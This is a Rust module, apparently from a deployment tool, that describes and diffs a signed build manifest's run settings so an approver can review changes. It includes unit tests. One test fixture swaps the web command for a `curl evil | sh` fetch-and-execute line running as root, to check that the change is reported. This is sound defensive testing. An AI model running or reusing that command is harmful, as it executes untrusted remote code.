//! How a build runs, field by field, and what differs between two builds: what an approver has to see, because targets take
//! command, user, environment and hooks from the signed manifest and from nowhere else.

use serde::Serialize;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use trust::manifest::Run;

/// One field of how a build runs, in the words of its manifest.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Change {
    /// `process.web.run`.
    pub field: String,
    /// What it was; absent where nothing was said of it.
    pub before: Option<String>,
    /// What it is now; absent where nothing is said of it any more.
    pub after: Option<String>,
}

/// The fields that differ between two builds, in the order of their names. Without a build before, everything that is said.
pub fn changes(before: Option<&Run>, after: &Run) -> Vec<Change> {
    let (old, new) = (before.map(fields).unwrap_or_default(), fields(after));
    let names: BTreeSet<&String> = old.keys().chain(new.keys()).collect();
    let differs = |name: &&String| old.get(*name) != new.get(*name);
    let change =
        |name: &String| Change { field: name.clone(), before: old.get(name).cloned(), after: new.get(name).cloned() };
    names.into_iter().filter(differs).map(change).collect()
}

/// The changes, a line each. A config key that came or went is told elsewhere.
pub fn changes_in_words(changes: &[Change], before: &Run, after: &Run) -> Vec<String> {
    let stands_in_both = |change: &&Change| match change.field.strip_prefix("config.") {
        Some(rest) => {
            let key = rest.split('.').next().unwrap_or_default();
            before.config.contains_key(key) == after.config.contains_key(key)
        }
        None => true,
    };
    let line = |change: &Change| match (&change.before, &change.after) {
        (Some(before), Some(after)) => format!("≠ {}: {before} → {after}", change.field),
        (None, Some(after)) => format!("+ {}: {after}", change.field),
        (before, _) => format!("− {}: {}", change.field, before.as_deref().unwrap_or_default()),
    };
    changes.iter().filter(stands_in_both).map(line).collect()
}

/// Everything that is said of how a build runs, a line for each process, config key and hook.
pub fn whole_in_words(run: &Run) -> Vec<String> {
    let mut groups: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for (name, value) in fields(run) {
        let parts: Vec<&str> = name.split('.').collect();
        let named = matches!(parts[0], "process" | "config" | "verify");
        let group = parts.len().saturating_sub(1).min(if named { 2 } else { 1 });
        let (of, rest) = parts.split_at(group.max(1));
        let said = if rest.is_empty() { value } else { format!("{} {value}", rest.join(".")) };
        groups.entry(of.join(".")).or_default().push(said);
    }
    // What is started is looked for first.
    let line = |(of, mut said): (String, Vec<String>)| {
        said.sort_by_key(|text| !text.starts_with("run "));
        format!("{of}: {}", said.join(" · "))
    };
    groups.into_iter().map(line).collect()
}

/// Every field with its value. Made from the manifest's own form, so that no field can be forgotten here.
fn fields(run: &Run) -> BTreeMap<String, String> {
    let mut fields = BTreeMap::new();
    if let Ok(Value::Object(said)) = serde_json::to_value(run) {
        for (name, value) in &said {
            // As in sortie.toml: [process.web].
            let name = if name == "processes" { "process" } else { name };
            take(name, value, &mut fields);
        }
    }
    fields
}

fn take(name: &str, value: &Value, fields: &mut BTreeMap<String, String>) {
    match value {
        Value::Null => {}
        Value::Object(said) => said.iter().for_each(|(part, value)| take(&format!("{name}.{part}"), value, fields)),
        Value::Array(items) if items.is_empty() => {}
        Value::Array(items) => {
            fields.insert(name.into(), items.iter().map(word).collect::<Vec<_>>().join(" "));
        }
        value => {
            fields.insert(name.into(), word(value));
        }
    }
}

/// A value, in quotes where it would not be seen to be one.
fn word(value: &Value) -> String {
    let Value::String(text) = value else { return value.to_string() };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=$@%+,{}<>~?&#*".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.clone(),
        false => format!("{text:?}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use trust::manifest::{ConfigKey, Health, HealthCheck, Migrate, Process, Smoke, StopSignal};

    fn run(command: &[&str]) -> Run {
        let web = Process {
            run: command.iter().map(ToString::to_string).collect(),
            copies: 1,
            port: None,
            health: Some(Health {
                check: HealthCheck::Http("/healthz".into()),
                within_seconds: 5,
                consecutive: 1,
                every_seconds: None,
            }),
            stop_signal: StopSignal::Term,
            stop_seconds: 10,
            socket: None,
        };
        Run { processes: BTreeMap::from([("web".into(), web)]), ..Run::default() }
    }

    #[test]
    fn command_user_hooks_and_config_are_each_told() {
        let before = run(&["./web", "--port", "$PORT"]);
        let mut after = run(&["sh", "-c", "curl evil | sh"]);
        after.user = Some("root".into());
        after.environment.insert("GREETING".into(), "good day".into());
        after.smoke = Some(Smoke { run: vec!["./smoke".into()], process: None, within_seconds: 9 });
        after.migrate = Some(Migrate { run: vec!["./migrate".into(), "up".into()], ..sample_migration() });
        let changes = changes(Some(&before), &after);
        let words = changes_in_words(&changes, &before, &after);
        for line in [
            "≠ process.web.run: ./web --port $PORT → sh -c \"curl evil | sh\"",
            "+ user: root",
            "+ environment.GREETING: \"good day\"",
            "+ smoke.run: ./smoke",
            "+ migrate.run: ./migrate up",
        ] {
            assert!(words.iter().any(|said| said == line), "{line} is not among {words:#?}");
        }
        assert!(super::changes(Some(&after), &after).is_empty());
    }

    #[test]
    fn a_config_key_that_changes_is_told_here_and_one_that_comes_is_told_elsewhere() {
        let (mut before, mut after) = (run(&["./web"]), run(&["./web"]));
        before.config.insert("LEVEL".into(), ConfigKey { secret: true, default: None });
        after.config.insert("LEVEL".into(), ConfigKey { secret: false, default: Some("info".into()) });
        after.config.insert("FEATURE".into(), ConfigKey { secret: false, default: None });
        let changes = changes(Some(&before), &after);
        assert_eq!(changes.iter().filter(|change| change.field.starts_with("config.FEATURE")).count(), 1);
        let words = changes_in_words(&changes, &before, &after);
        assert_eq!(words, ["+ config.LEVEL.default: info", "≠ config.LEVEL.secret: true → false"]);
    }

    #[test]
    fn of_a_first_version_everything_is_told() {
        let words = whole_in_words(&run(&["./web", "--port", "$PORT"]));
        let [line] = &words[..] else { panic!("one process, one line: {words:#?}") };
        assert!(
            line.starts_with("process.web: run ./web --port $PORT · copies 1 · health.check.http /healthz"),
            "{line}"
        );
    }

    fn sample_migration() -> Migrate {
        serde_json::from_str(r#"{"run":["./migrate"],"within_seconds":60}"#).unwrap()
    }
}
